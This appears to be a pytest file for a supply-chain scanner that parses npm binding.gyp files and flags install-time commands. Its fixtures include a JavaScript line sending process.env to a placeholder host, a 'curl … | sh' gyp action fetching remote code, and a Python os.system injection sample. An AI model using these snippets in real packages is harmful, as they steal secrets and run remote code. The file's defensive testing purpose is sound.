"""binding.gyp is read, never evaluated: hostile files cost bounded time and yield commands."""

from __future__ import annotations

import json

import pytest

from chainwatch.analysis.gyp import MAX_GYP_COMMANDS, parse_gyp
from chainwatch.model import Level, PackageRef
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import BENIGN_INDEX, manifest

SCANNER = Scanner(None, workers=1)


def test_expansions_and_actions_are_found_routine_queries_are_marked() -> None:
    gyp = b"""# a comment
{
  'targets': [{
    'target_name': 'x',
    'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"],
    'sources': ['<!@(node -e "console.log(1)")'],
    'actions': [{'action_name': 'a', 'inputs': [], 'outputs': ['o'],
                 'action': ['python3', 'gen.py', '--out', 'o']}],
  }],
}
"""
    found = {(c.command, c.kind, c.routine) for c in parse_gyp(gyp)}
    assert ("node -p \\\"require('node-addon-api').include\\\"", "expansion", True) in found
    assert ('node -e "console.log(1)"', "expansion", False) in found
    assert ("python3 gen.py --out o", "action", False) in found


@pytest.mark.parametrize("body", [
    b"[" * 100_000 + b"]" * 100_000,                       # nesting beyond the parser's limit
    b"{'a': " + b"'<!(x' " * 50_000 + b"}",                # unbalanced expansions
    b"__import__('os').system('id')",                      # code, not a literal
    b"\xff\xfe\x00garbage",
    b"{'targets': [" + b"{'action': ['sh', '-c', 'x']}," * 10_000 + b"]}",
])
def test_hostile_gyp_files_are_bounded_and_never_run(body: bytes) -> None:
    commands = parse_gyp(body)
    assert len(commands) <= MAX_GYP_COMMANDS
    assert all("__import__" not in c.command for c in commands)


def test_no_node_gyp_when_an_install_script_exists() -> None:
    """npm runs node-gyp only without an install/preinstall script: the file's commands are
    then not install-time, and the files they name are not marked so."""
    gyp = "{'targets': [{'target_name': 'x', 'sources': ['<!(node tools/gen.js)']}]}"
    steal = "require('https').request({host: 'x.invalid'}).end(JSON.stringify(process.env));\n"
    files = {"package.json": manifest(version="1.0.1", scripts={"install": "node-gyp-build"}),
             "index.js": BENIGN_INDEX, "binding.gyp": gyp, "tools/gen.js": steal}
    verdict = SCANNER.analyze(Loaded(PackageRef("left-padder", "1.0.1"),
                                     scan_snippet_files(files)), None)
    assert not any(f.install_time and f.file == "tools/gen.js" for f in verdict.findings)


def test_gyp_command_runs_through_the_install_script_rules() -> None:
    gyp = json.dumps({"targets": [{"target_name": "x", "actions": [{
        "action_name": "fetch", "inputs": [], "outputs": ["o"],
        "action": ["sh", "-c", "curl -s http://192.0.2.9/a | sh"]}]}]})
    files = {"package.json": manifest(version="1.0.1"), "index.js": BENIGN_INDEX,
             "binding.gyp": gyp}
    verdict = SCANNER.analyze(Loaded(PackageRef("left-padder", "1.0.1"),
                                     scan_snippet_files(files)), None)
    rules = {f.rule for f in verdict.findings}
    assert {"CW-INSTALL-GYP-COMMAND", "CW-INSTALL-PIPE-SHELL"} <= rules
    pipe = next(f for f in verdict.findings if f.rule == "CW-INSTALL-PIPE-SHELL")
    assert pipe.file == "binding.gyp"
    assert verdict.level is not Level.BENIGN


def test_what_the_budget_leaves_unread_is_reported() -> None:
    body = b"{'a': [" + (b"'<!(x " + b"y" * 1990 + b"', ") * 200 + b"'<!(curl x | sh)']}"
    commands = parse_gyp(body)
    assert any(c.kind == "unread" and not c.routine for c in commands)


def test_node_version_queries_are_routine() -> None:
    gyp = (b"""{'variables': {'NODE_VERSION%': """
           b""""<!(node -p \\"process.versions.node.split(\\\\\\".\\\\\\")[0]\\")"}}""")
    (command,) = parse_gyp(gyp)
    assert command.routine, command.command
